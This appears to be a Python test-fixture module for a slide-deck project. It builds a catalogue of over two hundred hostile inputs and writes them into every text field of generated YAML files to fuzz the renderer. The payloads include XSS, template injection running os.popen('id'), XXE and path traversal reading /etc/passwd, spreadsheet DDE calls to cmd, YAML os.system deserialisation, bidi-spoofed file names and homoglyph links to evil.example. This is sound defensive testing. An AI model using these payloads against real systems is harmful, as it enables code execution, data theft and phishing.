"""Values that mean harm, for any field of any kind, and content files that are full of them.

Every value is of a class: what it tries. `ALL` are more than two hundred; `content` puts one into
each text field of each kind, so that over as many builds as there are classes every field sees
every class, and over as many as there are values every field sees every value.
"""

from __future__ import annotations

import itertools
import json
import re
from typing import TYPE_CHECKING, Any, Final
from zlib import crc32

from PIL import Image

from csp_slides.load.kinds import KINDS
from tests.filled import document

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

PRODUCT: Final = "1337*1337"
REACHED: Final = "1787569"
"""What stands in a page where `PRODUCT` was run as a template."""

_ELSEWHERE: Final = "evil.example"
_RUN: Final = "alert(1)"


def _markup() -> Iterator[str]:
    yield from (
        f"<script>{_RUN}</script>",
        f"</title><script>{_RUN}</script>",
        f"</script><script>{_RUN}</script>",
        f"</style><script>{_RUN}</script>",
        f"</textarea><script>{_RUN}</script>",
        f"</section></div></main><script>{_RUN}</script>",
        f"<img src=x onerror={_RUN}>",
        f"<svg onload={_RUN}>",
        f"<svg><script>{_RUN}</script></svg>",
        f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
        f'"><svg/onload={_RUN}>',
        f"'><img src=x onerror={_RUN}>",
        f'" onmouseover="{_RUN}" x="',
        f"' autofocus onfocus='{_RUN}' x='",
        f"x onfocus={_RUN} autofocus",
        f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
        f"<iframe src=https://{_ELSEWHERE}/></iframe>",
        f"<base href=https://{_ELSEWHERE}/>",
        f"<meta http-equiv=refresh content='0;url=https://{_ELSEWHERE}/'>",
        f"<link rel=stylesheet href=https://{_ELSEWHERE}/x.css>",
        f"<form action=https://{_ELSEWHERE}/><input name=q><button>Go</button></form>",
        f"<object data=https://{_ELSEWHERE}/x.swf></object>",
        f"<embed src=https://{_ELSEWHERE}/x.swf>",
        f"<style>@import 'https://{_ELSEWHERE}/x.css';</style>",
        f"<p style='background:url(https://{_ELSEWHERE}/x.png)'>x</p>",
        f"<template><script>{_RUN}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
        f"<a href='javascript:{_RUN}'>x</a>",
        f"<details open ontoggle={_RUN}>x</details>",
        f"<video src=x onerror={_RUN}></video>",
        f"&lt;script&gt;{_RUN}&lt;/script&gt;",
        f"&#60;img src=x onerror={_RUN}&#62;",
        f"&#x3c;svg onload={_RUN}&#x3e;",
        "<!-- a remark that never ends",
        f"--><script>{_RUN}</script><!--",
        f"<!--><img src=x onerror={_RUN}>-->",
        f"<![CDATA[<script>{_RUN}</script>]]>",
        f"]]><script>{_RUN}</script>",
        f"<?php {_RUN} ?>",
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
        "<plaintext>",
        "<xmp><listing>",
        f"<x-y onclick={_RUN}>x</x-y>",
    )


def _scripts() -> Iterator[str]:
    for scheme in ("javascript", "JaVaScRiPt", " javascript", "java\tscript", "vbscript"):
        yield f"[x]({scheme}:{_RUN})"
        yield f"![x]({scheme}:{_RUN})"
    yield from (
        f"<javascript:{_RUN}>",
        f"[x](&#106;avascript:{_RUN})",
        f"[x](data:text/html,<script>{_RUN}</script>)",
        f"![x](data:image/svg+xml,<svg onload='{_RUN}'/>)",
        f"[x]\n\n[x]: javascript:{_RUN}",
        f"[x][javascript:{_RUN}]",
        f"');{_RUN};//",
        f'");{_RUN};//',
        f"`;{_RUN};`",
        f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
        f"\u2028{_RUN}\u2029",
        f"expression({_RUN})",
        f"url(javascript:{_RUN})",
        f"}} body {{ background: url(https://{_ELSEWHERE}/x.png) }} {{",
        f'-->\'"/></sCript><svG x=">" onload=({_RUN})``>',
        "__proto__",
        "constructor",
        f'{{"__proto__": {{"x": "{_RUN}"}}}}',
    )


def _templates() -> Iterator[str]:
    for opening, closing in (
        ("{{ ", " }}"),
        ("{{- ", " -}}"),
        ("{% print(", ") %}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%= ", " %>"),
        ("<%- ", " %>"),
        ("[[${", "}]]"),
        ("@(", ")"),
        ("*{", "}"),
        ("{", "}"),
        ("$((", "))"),
        ("`expr ", "`"),
    ):
        yield f"{opening}{PRODUCT}{closing}"
    yield from (
        "{% for x in range(9) %}x{% endfor %}",
        "{% extends '/etc/passwd' %}",
        "{% include '../../council.yaml' %}",
        "{% raw %}",
        "{# never closed",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self._TemplateReference__context }}",
        "{{constructor.constructor('alert(1)')()}}",
        "%(password)s %s %n",
        "{0.__class__.__init__.__globals__}",
        "{x!r:>9999999}",
        "$PATH ${HOME} %USERPROFILE%",
        "\\input{/etc/passwd} $\\href{javascript:alert(1)}{x}$",
    )


def _controls() -> Iterator[str]:
    for code in (0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x0E, 0x1A, 0x1B, 0x1F, 0x7F, 0x85, 0x9B):
        yield f"a{chr(code)}b"
    yield from (
        "a\x1b[31mred\x1b[0m",
        "a\x1b]8;;https://evil.example\x07b",
        "a\x1b]0;title\x07",
        "a\rb",
        "a\r\nb",
        "a\tb",
        "a\u2028b\u2029c",
        "a\ufeffb",
        "a\ufffeb",
        "a\uffffb",
        "a\ufdd0b",
        "a\ud800b",
        "\x00",
        " \u00a0\u3000 ",
        "_x0007_ _x000D_",
    )


def _directions() -> Iterator[str]:
    for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c":
        yield f"invoice{mark}fdp.exe"
    yield from (
        "\u202e\u202e\u202e\u202e never closed",
        "\u202c\u2069 never opened",
        "\u202e)1(trela\u202c",
        "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    )


def _links() -> Iterator[str]:
    for host in (
        "\u0430lderbrook.example",
        "ald\u0435rbrook.example",
        "xn--lderbrook-n3g.example",
        "alderbrook.example@evil.example",
        "alderbrook.example.evil.example",
        "alderbrook\u2024example.evil.example",
        "evil.example\\@alderbrook.example",
        "\uff45\uff56\uff49\uff4c.example",
        "evil.example%2f.alderbrook.example",
        "0x7f000001",
        "[::1]",
        "evil\u3002example",
    ):
        yield f"[the council](https://{host}/)"
    yield from (
        "[https://alderbrook.example](https://evil.example/)",
        "[x](//evil.example/)",
        "[x](\\\\evil.example\\share)",
        "[x](https:/evil.example)",
        "[x](file:///etc/passwd)",
        "[x](ftp://evil.example/)",
        "[x](mailto:a@b.example?subject=x%0d%0aBcc:c@d.example)",
        "[x](ms-word:ofe|u|https://evil.example/x.docx)",
        "[x](search-ms:query=x&crumb=location:\\\\evil.example)",
        "![x](https://evil.example/x.png)",
        "![x](//evil.example/x.png)",
        "<https://evil.example/?q=<script>>",
    )


def _formulas() -> Iterator[str]:
    for start in (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\uff1d",
        "\u2212",
        "'=",
        '"=',
        ";=",
    ):
        yield f"{start}1+1"
    yield from (
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        '=IMPORTXML("https://evil.example","//a")',
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
        '",=1+1,"',
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        '{ DDEAUTO excel "x" "y" }',
        '{ INCLUDETEXT "https://evil.example/x.docx" }',
        '{ INCLUDEPICTURE "https://evil.example/x.png" \\d }',
        '{ HYPERLINK "javascript:alert(1)" }',
        "{=SUM(1,1)}",
    )


def _huge() -> Iterator[str]:
    for piece, times in (
        ("a", 9_000),
        ("word ", 1_500),
        ("9", 9_000),
        ("\n", 5_000),
        ("a\n\n", 600),
        ("a\u0301\u0302\u0323", 1_500),
        ("*", 3_000),
        ("*a **b ", 600),
        ("_a", 3_000),
        ("`", 3_000),
        ("|a", 900),
        ("\U0001f469\u200d\U0001f469\u200d", 900),
        ("\u202e", 3_000),
        ("&amp;", 1_500),
        ("<b>", 900),
        ("https://evil.example/ ", 400),
        ("!", 9_000),
        ("- a\n", 400),
    ):
        yield piece * times


def _bombs() -> Iterator[str]:
    yield from (
        "!!python/object/apply:os.system ['id']",
        "!!js/function 'function(){}'",
        "!!binary aGVsbG8=",
        "&a [*a, *a, *a]",
        "*a",
        "<<: *x",
        "---",
        "...",
        "? x",
        "%YAML 9.9",
        "{a: [b",
        "# a remark",
        "x # a remark",
        "key: value",
        "- x",
        "|",
        ">-",
        "'",
        '"',
        "NO",
        "1e999",
        "0x10",
        ".nan",
        "~",
        "null",
        "\\",
        '"a\\x00b"',
        "1_000",
        "12:30:45",
    )


def _nested() -> Iterator[str]:
    for opening, closing, times in (
        ("[", "]", 2_000),
        ("{", "}", 2_000),
        ("(", ")", 2_000),
        ("> ", "", 500),
        ("- ", "", 500),
        ("<div>", "", 700),
        ("**", "", 1_500),
        ("[x](", ")", 500),
        ("![", "](x)", 500),
        ("$", "$", 500),
        ("\\frac{", "}", 500),
        ("1. ", "", 300),
        ("# ", "", 300),
        ("\u2066", "\u2069", 500),
    ):
        yield f"{opening * times}a{closing * times}"


def _encodings() -> Iterator[str]:
    yield from (
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\u00c0\u00bcscript\u00c0\u00be",
        "\u02bcscript\u02be",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\u226e\u0338script\u226f\u0338",
        "caf\u00c3\u00a9 \u00e2\u20ac\u2122",
        "\ufffd\ufffd",
        "\u0130\u0131\u017f\u1e9e",
        "\U000e0041\U000e0042 tags that nobody sees",
        "a\ufe0fb\ufe00c",
        "\U0001d400\U0001f600\U0010ffff",
        "\ue000\uf8ff",
        "\u1100" * 40,
        "\u0e01" + "\u0e33" * 60,
        "=?utf-8?q?=3Cscript=3E?=",
        "\\x3cscript\\x3e \\074 \\u{3c}",
    )


def _paths() -> Iterator[str]:
    yield from (
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\Windows\\system32",
        "\\\\evil.example\\share\\x",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "....//....//etc/passwd",
        "CON",
        "NUL.html",
        "a/b/../../index",
        "index.html",
        "assets/x.js",
        ".htaccess",
        "![x](../../../../etc/passwd)",
        "[x](../../../../etc/passwd)",
        "![x](/etc/passwd)",
        "asset:/x.png",
        "![x](asset:/x.png)",
        "x\u0000.png",
        "-rf",
    )


def _decks() -> Iterator[str]:
    yield from (
        "a\n\n---\n\nb",
        "a\n\n----\n\nb",
        "Note: said to nobody",
        "a\n\nNote:\n\nb",
        "<!-- .slide: onclick='alert(1)' data-background='https://evil.example/x.png' -->",
        "a <!-- .element: onclick='alert(1)' style='position:fixed' -->",
        "```js\nalert(1)\n```",
        "```{{ 1337*1337 }}",
        "~~~",
        "| a | b |\n|---|---|\n| <script> | =1+1 |",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "# A\n# B\n###### C",
        "$x^2$ and \\(y\\)",
        ":::warning\nx\n:::",
        "[x]: https://evil.example 'x'",
        "<aside class='notes'>x</aside>",
        "a  \nb\\\nc",
    )


CLASSES: Final[dict[str, tuple[str, ...]]] = {
    "markup": tuple(_markup()),
    "scripts": tuple(_scripts()),
    "templates": tuple(_templates()),
    "controls": tuple(_controls()),
    "directions": tuple(_directions()),
    "links": tuple(_links()),
    "formulas": tuple(_formulas()),
    "huge": tuple(_huge()),
    "bombs": tuple(_bombs()),
    "nested": tuple(_nested()),
    "encodings": tuple(_encodings()),
    "paths": tuple(_paths()),
    "decks": tuple(_decks()),
}
ALL: Final = tuple(value for values in CLASSES.values() for value in values)
_KNOWN: Final = frozenset(ALL)
PLAIN: Final = "Plain words."

_ESCAPED: Final = re.compile(
    "[\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff\ufdd0-\ufdef\ufeff\ufffe\uffff]"
)
"""What is written as an escape: many of these in a row make a file that is no text at all."""


_LATER: Final = {name: itertools.cycle(values) for name, values in CLASSES.items()}


def one_of_each_class(number: int) -> Callable[[str], str]:
    """Return what fills fields in build `number`: over all builds each field has each class."""
    names = list(CLASSES)
    return lambda field: next(_LATER[names[(crc32(field.encode()) + number) % len(names)]])


def one_of_all(number: int) -> Callable[[str], str]:
    """Return what fills fields in build `number`: over all builds each field has each value."""
    return lambda field: ALL[(crc32(field.encode()) + number) % len(ALL)]


def write(folder: Path, value: Callable[[str], str]) -> dict[str, dict[str, Any]]:
    """Write a file of each kind with `value` in every text field; gives them by their names."""
    folder.mkdir(parents=True)
    files: dict[str, dict[str, Any]] = {}
    for kind in KINDS:

        def words(place: str, kind: str = kind) -> str:
            return kind if place == "id" else value(f"{kind}: {place}")

        files[f"{kind}.yaml"] = document(kind, words)
    files["deck.yaml"]["sections"].append({"use": "section.yaml"})
    for name, made in files.items():
        save(folder / name, made)
    Image.new("RGB", (40, 30)).save(folder / "bins.png")
    (folder / "data.csv").write_text("a,b\n", encoding="utf-8")
    return files


def save(path: Path, made: dict[str, Any]) -> None:
    """Write a file in the form of YAML that is JSON: every value has a line of its own."""
    text = json.dumps(made, indent=1, ensure_ascii=False)
    path.write_text(_ESCAPED.sub(lambda found: f"\\u{ord(found[0]):04x}", text), encoding="utf-8")


def is_hostile(value: object, at_least: int) -> bool:
    """Whether a value is one of these, and not shorter than that."""
    return isinstance(value, str) and value in _KNOWN and len(value) >= at_least


def without(made: Any, lines: set[int], at_least: int = 0) -> Any:  # noqa: ANN401  # JSON's value
    """Put plain words in place of the texts on some lines of a file that `save` wrote.

    Shorter ones than `at_least` letters stay.
    """
    counted = itertools.count(2)

    def walk(value: Any) -> Any:  # noqa: ANN401  # likewise
        match value:
            case dict():
                kept: Any = {}
                for key, each in value.items():
                    plain = (line := next(counted)) in lines
                    name = f"plain {line}" if plain and is_hostile(key, at_least) else key
                    kept[name] = PLAIN if plain and is_hostile(each, at_least) else walk(each)
                next(counted)
            case list():
                kept = [
                    PLAIN if next(counted) in lines and is_hostile(each, at_least) else walk(each)
                    for each in value
                ]
                next(counted)
            case _:
                kept = value
        return kept

    return walk(made)
